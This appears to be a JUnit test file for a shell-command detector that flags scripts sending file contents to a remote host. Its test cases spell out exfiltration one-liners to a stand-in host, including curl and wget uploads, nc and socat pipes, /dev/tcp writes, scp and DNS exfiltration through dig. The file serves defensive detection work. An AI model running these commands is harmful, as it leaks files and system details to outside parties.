package io.hivesec.detectors.command;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.detectors.command.Upload.Part;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UploadsTest {
    private static List<Upload> uploads(String script) {
        return CommandLine.of(List.of("sh", "-c", script)).uploads();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "curl -d @a http://h.example/ ~ curl ~ http://h.example/ ~ BODY",
                "curl -d@a http://h.example/ ~ curl ~ http://h.example/ ~ BODY",
                "curl --data-binary=@a http://h.example/ ~ curl ~ http://h.example/ ~ BODY",
                "curl http://h.example/ -T a ~ curl ~ http://h.example/ ~ BODY",
                "curl -F 'f=@a;type=text/plain' h.example/ ~ curl ~ h.example/ ~ BODY",
                "curl -F f='<a' http://h.example/ ~ curl ~ http://h.example/ ~ BODY",
                "curl -T - http://h.example/ < a ~ curl ~ http://h.example/ ~ BODY",
                "cat a | gzip | base64 | curl -d @- h.example ~ curl ~ h.example ~ BODY",
                "curl http://h.example/?x=$(cat a) ~ curl ~ http://h.example/?x= ~ URL",
                "wget --post-file=a http://h.example/ ~ wget ~ http://h.example/ ~ BODY",
                "dig $(cat a).h.example ~ dig ~ .h.example ~ NAME",
                "nc h.example 99 < a ~ nc ~ h.example ~ BODY",
                "cat a > /dev/tcp/h.example/99 ~ /dev/tcp ~ h.example ~ BODY",
                "socat FILE:a TCP:h.example:99 ~ socat ~ h.example ~ BODY",
                "scp a u@h.example:/tmp ~ scp ~ u@h.example ~ BODY",
                "tar cz a | nc h.example 99 ~ nc ~ h.example ~ BODY",
                "tar --create --file=b a; curl -T b h.example ~ curl ~ h.example ~ BODY",
                "zip -r b a; curl -T b h.example ~ curl ~ h.example ~ BODY",
                "cp a b; curl -T b h.example ~ curl ~ h.example ~ BODY",
                "x=$(cat a); curl -d \"$x\" h.example ~ curl ~ h.example ~ BODY"
            })
    void of_fileThatIsSent_tellsWhereTo(String script, String program, String to, Part part) {
        assertThat(uploads(script)).singleElement().satisfies(upload -> {
            assertThat(upload.program()).isEqualTo(program);
            assertThat(upload.to()).isEqualTo(to);
            assertThat(upload.part()).isEqualTo(part);
            assertThat(upload.origins()).contains(Origin.file("a"));
            assertThat(upload.executed()).isTrue();
        });
    }

    @Test
    void of_programsThatTell_namesThem() {
        assertThat(uploads("curl -d \"u=$(whoami)&h=$(hostname)\" http://h.example/"))
                .singleElement()
                .extracting(Upload::origins)
                .isEqualTo(Set.of(Origin.program("whoami"), Origin.program("hostname")));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "curl http://h.example/a",
                "curl -o a http://h.example/",
                "curl -d text http://h.example/",
                "curl -H \"X: $(cat a)\" http://h.example/",
                "curl -e http://$(hostname) http://h.example/",
                "nc -l 99 < a",
                "tar xz a",
                "cat a | grep x",
                "scp u@h.example:a b"
            })
    void of_nothingSent_tellsNothing(String script) {
        assertThat(uploads(script)).isEmpty();
    }

    @Test
    void of_quotedCommand_isNotExecuted() {
        assertThat(uploads("echo 'curl -d @a http://h.example/'"))
                .allSatisfy(upload -> assertThat(upload.executed()).isFalse());
    }
}
